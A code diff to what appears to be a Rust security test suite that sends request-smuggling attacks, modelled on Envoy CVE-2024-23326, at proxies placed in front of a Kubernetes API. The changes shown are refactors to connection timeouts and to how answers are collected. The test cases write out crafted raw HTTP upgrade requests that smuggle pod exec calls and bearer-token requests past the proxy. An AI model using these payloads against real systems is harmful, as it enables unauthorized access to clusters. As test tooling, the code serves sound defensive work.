@@ -1,5 +1,7 @@
 //! Bytes beside and behind an upgrade, which no filter sees once it has been agreed to.
 
+use std::time::Duration;
+
 use super::super::attack::Attack;
 use super::super::judge::Must;
 use super::super::scene::{CLUSTERS, RECORDERS, Target};
@@ -67,6 +69,7 @@ pub(super) const ATTACKS: &[Attack] = &[
     ),
     Attack::new("ok-in-the-place-of-101", "Envoy CVE-2024-23326", "an upstream answers an upgrade with 200; a request follows", |scene| {
         let mut trial = scene.trial("ok-in-the-place-of-101").on(&RECORDERS);
+        let mut open = Vec::new();
         for (word, answer) in [
             ("ok-200", "HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}"),
             ("ok-open", "HTTP/1.1 200 OK\r\n\r\n"),
@@ -77,15 +80,16 @@ pub(super) const ATTACKS: &[Attack] = &[
                 scene.kept(target).answer(&format!("hostile-{word}&"), answer, false);
                 let exec = EXEC.replace("{exec}", &format!("/api/v1/namespaces/default/pods/web/exec?hostile-{word}&attack={{mark}}."));
                 let mark = trial.mark(target, Must::AsSelf);
-                let mut connection = trial.open(target, Some(target.host)).within(std::time::Duration::from_secs(1));
+                let mut connection = trial.open(target, Some(target.host)).within(Duration::from_secs(1));
                 connection.send(trial.fill(&format!("{exec}{WEBSOCKET}\r\n"), target, &mark).as_bytes());
                 let answer = connection.answer();
                 trial.ended(Sent { mark: mark.clone(), answer });
                 // If Envoy took the 200 for an agreement, this goes to the upstream as it is.
                 connection.send(trial.fill(INNER, target, &mark).as_bytes());
-                let _ = connection.answer();
+                open.push(connection);
             }
         }
+        std::thread::scope(|scope| open.iter_mut().for_each(|connection| drop(scope.spawn(|| connection.answer()))));
         trial.verdict()
     }),
     Attack::new(
@@ -99,7 +103,7 @@ pub(super) const ATTACKS: &[Attack] = &[
                 scene.kept(target).answer("hostile-101&", answer, false);
                 let mark = trial.mark(target, Must::AsSelf);
                 let request = "GET /version?hostile-101&attack={mark}. HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer {token}\r\n\r\n";
-                let mut connection = trial.open(target, Some(target.host)).within(std::time::Duration::from_secs(1));
+                let mut connection = trial.open(target, Some(target.host)).within(Duration::from_secs(1));
                 connection.send(trial.fill(request, target, &mark).as_bytes());
                 let answer = connection.answer();
                 trial.ended(Sent { mark: mark.clone(), answer });
